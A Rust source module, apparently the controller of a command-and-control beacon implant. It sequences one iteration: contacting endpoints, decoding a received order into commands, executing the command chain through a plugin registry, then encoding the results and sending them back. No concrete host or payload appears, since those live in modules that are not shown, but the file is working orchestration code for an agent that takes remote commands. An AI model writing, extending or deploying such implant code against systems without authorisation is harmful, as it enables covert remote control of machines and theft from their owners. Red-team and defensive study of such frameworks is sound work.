//! Controller: the orchestrator sequencing one beacon iteration.
//!
//! One iteration walks the phase machine `Beaconing → Decoding → Executing →
//! Encoding → Responding → {Done, Failed}`. A transition fires only when its
//! stage succeeds; any stage failure moves straight to `Failed` and later
//! stages never observe a failed predecessor's output. The public entry point
//! returns a bare boolean — no error of any class escapes it. Scheduling and
//! retry policy belong to the caller.

use crate::beacon;
use crate::codec;
use crate::command;
use crate::endpoint::Endpoint;
use crate::order::Order;
use crate::registry::{CapabilityRegistry, PluginCatalog, PluginManifest};
use crate::respond;
use payload::{CommandNode, DispatchResult};
use std::fmt;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Phase {
    Beaconing,
    Decoding,
    Executing,
    Encoding,
    Responding,
    Done,
    Failed,
}

impl fmt::Display for Phase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Phase::Beaconing => "beaconing",
            Phase::Decoding => "decoding",
            Phase::Executing => "executing",
            Phase::Encoding => "encoding",
            Phase::Responding => "responding",
            Phase::Done => "done",
            Phase::Failed => "failed",
        };
        write!(f, "{}", name)
    }
}

pub struct Controller {
    registry: CapabilityRegistry,
}

impl Controller {
    /// Builds the controller's registry from the catalog and manifest. Any
    /// unresolved identifier aborts construction.
    pub fn new(catalog: &PluginCatalog, manifest: &PluginManifest) -> DispatchResult<Self> {
        Ok(Controller {
            registry: CapabilityRegistry::build(catalog, manifest)?,
        })
    }

    pub fn registry(&self) -> &CapabilityRegistry {
        &self.registry
    }

    /// Runs one full beacon iteration against the candidate endpoints.
    pub fn beacon(&self, endpoints: &[Endpoint]) -> bool {
        let succeeded = self.handle(endpoints);
        log::info!(
            "beaconing iteration {}",
            if succeeded { "succeeded" } else { "failed" }
        );
        succeeded
    }

    fn handle(&self, endpoints: &[Endpoint]) -> bool {
        let mut phase = Phase::Beaconing;
        let mut order: Option<Order> = None;
        loop {
            match phase {
                Phase::Done => return true,
                Phase::Failed => return false,
                _ => {}
            }
            log::debug!("entering {} stage", phase);
            phase = self.step(phase, endpoints, &mut order);
        }
    }

    fn step(&self, phase: Phase, endpoints: &[Endpoint], order: &mut Option<Order>) -> Phase {
        match phase {
            Phase::Beaconing => match beacon::try_endpoints(&self.registry, endpoints) {
                Ok(Some(contacted)) => {
                    *order = Some(contacted);
                    Phase::Decoding
                }
                Ok(None) => {
                    log::warn!("no candidate endpoint answered");
                    Phase::Failed
                }
                Err(err) => {
                    log::error!("beacon dispatch aborted: {}", err);
                    Phase::Failed
                }
            },
            Phase::Decoding => match order.as_mut() {
                Some(order) => match codec::decode(&self.registry, &order.raw_response) {
                    Ok(decoded) => {
                        order.commands = Some(decoded);
                        Phase::Executing
                    }
                    Err(err) => {
                        log::error!("{}", err);
                        Phase::Failed
                    }
                },
                None => Phase::Failed,
            },
            Phase::Executing => match order.as_mut() {
                Some(order) => self.execute_stage(order),
                None => Phase::Failed,
            },
            Phase::Encoding => match order.as_mut() {
                Some(order) => {
                    let rendered = match order.results.as_ref() {
                        Some(results) => results.to_value(),
                        None => return Phase::Failed,
                    };
                    match codec::encode(&self.registry, &rendered) {
                        Ok(encoded) => {
                            order.response = Some(encoded);
                            Phase::Responding
                        }
                        Err(err) => {
                            log::error!("{}", err);
                            Phase::Failed
                        }
                    }
                }
                None => Phase::Failed,
            },
            Phase::Responding => match order.as_ref() {
                Some(order) if respond::deliver(&self.registry, order) => Phase::Done,
                _ => Phase::Failed,
            },
            Phase::Done | Phase::Failed => phase,
        }
    }

    fn execute_stage(&self, order: &mut Order) -> Phase {
        let commands = match order.commands.as_ref() {
            Some(commands) => commands,
            None => return Phase::Failed,
        };
        let node = match CommandNode::from_value(commands) {
            Ok(node) => node,
            Err(err) => {
                log::error!("{}", err);
                return Phase::Failed;
            }
        };
        log::debug!("beginning command chain");
        let (success, results) = command::execute(&self.registry, &node);
        log::debug!("command chain completed");
        order.results = Some(results);
        if success {
            Phase::Encoding
        } else {
            log::error!("command chain reported failure");
            Phase::Failed
        }
    }
}
